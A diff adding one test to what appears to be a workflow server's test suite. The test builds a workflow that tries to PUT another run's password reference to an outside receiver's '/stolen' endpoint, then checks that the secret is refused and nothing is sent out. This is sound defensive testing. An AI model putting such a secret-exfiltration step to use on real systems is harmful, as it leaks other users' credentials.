@@ -189,6 +189,23 @@ def test_the_worker_has_the_value_and_nobody_else_and_it_is_gone_with_the_run(
     assert row_of(run) not in rows(server)
 
 
+def test_no_other_run_has_it_whatever_its_workflow_says(
+    server: Server, outside: Receiver, people: dict[str, httpx.Client]
+) -> None:
+    run = started(server, "later", path="/theirs")
+    url, reference = f"{outside.url}/stolen", run["inputs"]["password"]
+    taking = {"uses": "http.request", "with": {"method": "PUT", "url": url, "secret": reference}}
+    taker = {"apiVersion": "oncue/v1", "kind": "Workflow", "metadata": {"name": "takes", "namespace": "desk"},
+             "spec": {"steps": [{"id": "send", **taking}]}}  # fmt: skip
+    people["writes"].post("/manifests", json=[taker]).raise_for_status()
+    taken = people["writes"].post("/runs", json={"workflow": "takes", "namespace": "desk"}).json()
+    failed = ended(server, taken["id"])
+    assert (failed["state"], failed["steps"][0]["error_code"]) == ("failed", "secret.not_found")
+    assert outside.to("/stolen") == []
+    go(server)
+    assert ended(server, run["id"])["state"] == "succeeded"
+
+
 def test_it_is_kept_as_long_as_the_run_waits_and_for_the_runs_within_it(server: Server, outside: Receiver) -> None:
     run = started(server, "later", path="/later")
     assert row_of(run) in rows(server)
